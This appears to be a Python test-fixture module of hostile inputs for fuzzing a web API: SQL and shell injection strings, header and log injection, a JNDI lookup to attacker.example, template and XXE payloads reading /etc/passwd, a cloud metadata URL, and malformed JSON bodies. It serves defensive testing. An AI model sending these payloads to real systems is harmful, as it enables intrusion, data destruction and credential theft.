"""What attackers put where a name is expected, and bodies of every shape that JSON can have."""

import json
from typing import Any

SQL = [
    "' OR '1'='1",
    "'; DROP TABLE stories; --",
    "x'); DELETE FROM entries; --",
    "' UNION SELECT usename, passwd FROM pg_shadow --",
    "1; SELECT pg_sleep(30)",
    "\\'; COPY stories TO PROGRAM 'id'; --",
    "$$; SELECT 1; $$",
    "%' OR 1=1 --",
    "shop/lamp",
]
HEADER = [
    "a\r\nSet-Cookie: pwned=1",
    "a\nX-Pwned: 1",
    "a%0d%0aSet-Cookie:%20pwned=1",
    "\r\n\r\n<script>alert(1)</script>",
]
LOG = [
    'x"}\n{"event": "forged", "level": "error"}',
    "\x1b[31mred\x1b[0m",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "{0.__class__.__init__.__globals__}",
]
UNICODE = [
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "\x00",
    "a\x00b",
    "\x7f",
    "\u0085",
    "\u2028",
    "\ue000",
    "\ufffe",
    "\U0010ffff",
    "\ufdd0",
]
SHELL = ["; id", "`id`", "$(id)", "| cat /etc/passwd", "../../../etc/passwd", "file:///etc/passwd", "http://169.254.169.254/"]
TEXTS = [*SQL, *HEADER, *LOG, *UNICODE, *SHELL]

SHAPES: list[Any] = [
    None,
    True,
    False,
    0,
    -1,
    1.5,
    1e308,
    2**63,
    10**40,
    "",
    "text",
    [],
    [[]],
    [None],
    {},
    {"": ""},
    {"__proto__": {"admin": True}},
    {"$ne": None},
    {"a": {"a": {"a": {}}}},
]
RAW = [
    b"",
    b" ",
    b"{",
    b"[",
    b'"',
    b"nul",
    b"NaN",
    b"[NaN]",
    b"Infinity",
    b"-",
    b"01",
    b"1e",
    b"'a'",
    b"{a:1}",
    b'{"a":1,}',
    b"\xff\xfe",
    b"\xef\xbb\xbf{}",
    b'{"a":"\xc3\x28"}',
    b'{"a":"\\ud800"}',
    b"[" * 30_000,
    b'{"a":' * 10_000,
    b"9" * 60_000,
    b'"' + b"a" * 60_000 + b'"',
    b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    json.dumps({"lines": [{"sku": "a", "quantity": 1}] * 1_000}).encode(),
]


def places(body: Any, value: Any) -> list[Any]:
    """`body` with `value` instead of one of its parts, once for each part, and once in addition to them."""
    made = [value]
    if isinstance(body, dict):
        made += [{**body, name: each} for name, part in body.items() for each in places(part, value)]
        made += [{**body, "more": value}, {name: part for name, part in body.items() if name != next(iter(body))}]
    if isinstance(body, list):
        made += [[each, *body[1:]] for each in places(body[0], value)]
    return made
